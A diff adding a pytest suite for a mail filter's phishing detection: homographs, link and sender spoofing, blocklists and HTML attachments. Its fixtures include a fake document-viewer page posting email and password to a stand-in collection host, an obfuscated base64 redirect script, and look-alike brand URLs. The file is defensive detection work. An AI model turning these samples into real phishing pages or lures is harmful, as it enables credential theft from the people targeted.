@@ -1,0 +1,224 @@
+"""Phishing rules: look-alike domains, link text, display names, blocklist, HTML forms."""
+
+from __future__ import annotations
+
+import os
+import sys
+from email.message import EmailMessage
+from pathlib import Path
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from postvern.filters import FilterSettings, ScanContext, analyse, decide
+from postvern.filters.blocklist import Blocklist
+from postvern.filters.confusables import skeleton
+from postvern.filters.content import read_content
+from postvern.filters.htmlscan import scan_html
+from postvern.filters.phishing import PhishingContext, check_phishing
+from postvern.filters.urls import find_text_urls, link_mismatches, parse_url
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))
+import train_spam
+
+CYRILLIC_PAYPAL = "р\u0430ypal.com"  # Cyrillic "р" (U+0440) and "а" (U+0430)
+
+
+def html_message(
+    html: str,
+    *,
+    sender: str = "Accounts <accounts@mailer.example.net>",
+    subject: str = "Your account",
+    attachments: tuple[tuple[str, bytes, str], ...] = (),
+) -> bytes:
+    msg = EmailMessage()
+    msg["From"] = sender
+    msg["To"] = "bob@example.com"
+    msg["Subject"] = subject
+    msg.set_content("Please read the HTML version.")
+    msg.add_alternative(html, subtype="html")
+    for name, data, ctype in attachments:
+        maintype, subtype = ctype.split("/")
+        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
+    return msg.as_bytes()
+
+
+def codes(raw: bytes, **ctx: object) -> dict[str, str]:
+    hits = check_phishing(read_content(raw), PhishingContext(**ctx))  # type: ignore[arg-type]
+    return {h.code: h.detail for h in hits}
+
+
+def test_skeletons_fold_confusables() -> None:
+    assert skeleton(CYRILLIC_PAYPAL) == skeleton("paypal.com")
+    assert skeleton("paypa1.com") == skeleton("paypal.com")
+    assert skeleton("rnicrosoft.com") == skeleton("microsoft.com")
+    assert skeleton("ｐａｙｐａｌ.com") == skeleton("paypal.com")  # fullwidth, via NFKC
+    assert skeleton("pаypál.com") == skeleton("paypal.com")  # accents dropped
+    assert skeleton("example.org") != skeleton("paypal.com")
+
+
+def test_cyrillic_homograph_in_link_is_detected() -> None:
+    raw = html_message(f'<p>Sign in: <a href="https://{CYRILLIC_PAYPAL}/signin">here</a></p>')
+    found = codes(raw)
+    assert "PHISH_HOMOGRAPH" in found
+    assert "xn--" in found["PHISH_HOMOGRAPH"] and "PayPal" in found["PHISH_HOMOGRAPH"]
+
+
+def test_punycode_homograph_and_sender_domain() -> None:
+    ascii_form = CYRILLIC_PAYPAL.encode("idna").decode()
+    assert ascii_form.startswith("xn--")
+    raw = html_message(
+        f'<a href="http://{ascii_form}/x">Continue</a>', sender=f"Service <service@{ascii_form}>"
+    )
+    assert "PHISH_HOMOGRAPH" in codes(raw)
+
+
+def test_digit_lookalike_of_a_brand() -> None:
+    assert "PHISH_HOMOGRAPH" in codes(html_message('<a href="https://paypa1.com/">x</a>'))
+
+
+def test_the_real_brand_domain_is_not_a_homograph() -> None:
+    raw = html_message(
+        '<a href="https://www.paypal.com/signin">www.paypal.com</a>',
+        sender="PayPal <service@paypal.com>",
+    )
+    assert codes(raw) == {}
+
+
+def test_lookalike_of_the_recipients_own_domain() -> None:
+    raw = html_message("<p>Please pay the attached invoice today.</p>",
+                       sender="The CEO <ceo@examp1e.com>")  # fmt: skip
+    found = codes(raw, recipient_domains=("example.com",))
+    assert "PHISH_OWN_DOMAIN_LOOKALIKE" in found
+    assert "example.com" in found["PHISH_OWN_DOMAIN_LOOKALIKE"]
+    assert "PHISH_OWN_DOMAIN_LOOKALIKE" not in codes(raw, recipient_domains=("other.org",))
+
+
+def test_link_text_showing_another_domain() -> None:
+    brand = html_message('<a href="http://login-check.example.net/p">https://www.paypal.com/</a>')
+    assert "PHISH_LINK_BRAND_MISMATCH" in codes(brand)
+    plain = html_message('<a href="http://tracker.example.net/c/1">www.example.org</a>')
+    found = codes(plain)
+    assert found.get("PHISH_LINK_MISMATCH") == "link shows example.org but opens example.net"
+
+
+def test_matching_or_wordy_link_text_is_fine() -> None:
+    raw = html_message(
+        '<a href="https://www.example.org/a">www.example.org</a> '
+        '<a href="https://news.example.org/b">Read more</a> '
+        '<a href="https://files.example.net/c">report.pdf</a>'
+    )
+    assert codes(raw) == {}
+
+
+def test_display_name_brand_spoofing() -> None:
+    spoof = html_message("<p>Verify now</p>", sender='"PayPal Support" <x@random-host.example>')
+    assert "PHISH_FROM_BRAND_SPOOF" in codes(spoof)
+    common_word = html_message("<p>Lunch?</p>", sender="Chase Miller <chase@mail.example>")
+    assert codes(common_word) == {}
+    claimed = html_message("<p>Alert</p>", sender="Chase Online Banking <a@mail.example>")
+    assert "PHISH_FROM_BRAND_SPOOF" in codes(claimed)
+    signed = html_message("<p>Receipt</p>", sender="PayPal <receipts@mailer.example>")
+    assert "PHISH_FROM_BRAND_SPOOF" not in codes(signed, verified_domains=("paypal.com",))
+
+
+def test_display_name_showing_another_address() -> None:
+    raw = html_message("<p>x</p>", sender='"security@bank.example" <drop@elsewhere.example>')
+    assert "PHISH_FROM_NAME_ADDRESS" in codes(raw)
+
+
+def test_url_tricks() -> None:
+    url = parse_url("https://www.paypal.com@evil.example/login")
+    assert url is not None and url.host == "evil.example" and url.has_userinfo
+    assert parse_url("http://192.0.2.7/x").is_ip  # type: ignore[union-attr]
+    assert parse_url("http://3221225991/x").is_ip  # type: ignore[union-attr]
+    assert parse_url("mailto:bob@example.org") is None
+    assert [parse_url(u).host for u in find_text_urls("see hxxps://bad.example/x now")] == [  # type: ignore[union-attr]
+        "bad.example"
+    ]
+    raw = html_message('<a href="https://www.paypal.com@evil.example/">sign in</a>')
+    assert "PHISH_URL_USERINFO" in codes(raw)
+
+
+def test_blocklist_is_reloaded_when_the_file_changes(tmp_path: Path) -> None:
+    path = tmp_path / "blocklist.txt"
+    path.write_text("# phishing hosts\nbad.example\nhttps://files.example.org/evil/\n")
+    blocklist = Blocklist(path)
+    raw_bad = html_message('<a href="https://login.bad.example/x">x</a>')
+    raw_worse = html_message('<a href="http://worse.example/">x</a>')
+    raw_prefix = html_message('<a href="https://files.example.org/evil/kit.zip">x</a>')
+    raw_fine = html_message('<a href="https://files.example.org/docs/">x</a>')
+    assert "URL_BLOCKLISTED" in codes(raw_bad, blocklist=blocklist)
+    assert "URL_BLOCKLISTED" in codes(raw_prefix, blocklist=blocklist)
+    assert "URL_BLOCKLISTED" not in codes(raw_fine, blocklist=blocklist)
+    assert "URL_BLOCKLISTED" not in codes(raw_worse, blocklist=blocklist)
+
+    stat = path.stat()
+    path.write_text("worse.example\n")
+    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
+    assert "URL_BLOCKLISTED" in codes(raw_worse, blocklist=blocklist)
+    assert "URL_BLOCKLISTED" not in codes(raw_bad, blocklist=blocklist)
+
+    path.unlink()  # a vanished file keeps the last good list in force
+    assert "URL_BLOCKLISTED" in codes(raw_worse, blocklist=blocklist)
+    assert blocklist.error
+
+
+def test_blocklist_from_settings_in_the_verdict(tmp_path: Path) -> None:
+    path = tmp_path / "list.txt"
+    path.write_text("bad.example\n")
+    ctx = ScanContext(settings=FilterSettings(url_blocklist=str(path)))
+    verdict = decide(
+        analyse(html_message('<a href="https://bad.example/">x</a>'), ctx), ctx.settings
+    )
+    assert verdict.action in ("junk", "reject")
+    assert any(r.startswith("URL_BLOCKLISTED") for r in verdict.reasons)
+
+
+def test_credential_form_in_html_attachment() -> None:
+    page = (
+        b"<html><body><h1>Document viewer</h1><form method=post "
+        b'action="https://collect.example.net/p.php"><input name=email>'
+        b"<input type=password name=pw><button>Open</button></form></body></html>"
+    )
+    raw = html_message("<p>Your fax is attached.</p>",
+                       attachments=(("fax_0394.html", page, "text/html"),))  # fmt: skip
+    assert "PHISH_HTML_ATTACHMENT_FORM" in codes(raw)
+    verdict = decide(analyse(raw, ScanContext()), FilterSettings())
+    assert verdict.action != "inbox"
+
+
+def test_redirecting_html_attachment() -> None:
+    page = b'<html><script>window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv");</script>'
+    raw = html_message("<p>Invoice</p>", attachments=(("invoice.htm", page, "text/html"),))
+    assert "PHISH_HTML_ATTACHMENT_REDIRECT" in codes(raw)
+
+
+def test_plain_html_attachment_passes() -> None:
+    page = b"<html><body><p>Minutes of the meeting</p><a href='https://example.org/'>site</a>"
+    raw = html_message(
+        "<p>Minutes attached.</p>", attachments=(("minutes.html", page, "text/html"),)
+    )
+    assert codes(raw) == {}
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from("<>/=\"' ahrefxn-.:@!?[]\u0430\u0440pу"), max_size=300))
+def test_html_and_url_readers_never_raise(text: str) -> None:
+    doc = scan_html(text)
+    for raw in [*doc.urls, *find_text_urls(text), text]:
+        url = parse_url(raw)
+        if url is not None:
+            assert skeleton(url.host) is not None and url.domain is not None
+    link_mismatches(doc.links)
+
+
+def test_real_phishing_is_not_delivered_to_the_inbox() -> None:
+    """Held-out phishing (both corpora) mostly lands in Junk or is refused."""
+    samples = [
+        s for s in train_spam.load_corpora(train_spam.DEFAULT_CORPORA)
+        if s.kind == "phish" and s.part == "eval"
+    ]  # fmt: skip
+    chosen = samples[:: max(1, len(samples) // 60)]
+    caught = sum(decide(analyse(s.raw, ScanContext()), FilterSettings()).is_spam for s in chosen)
+    assert caught >= 0.9 * len(chosen)
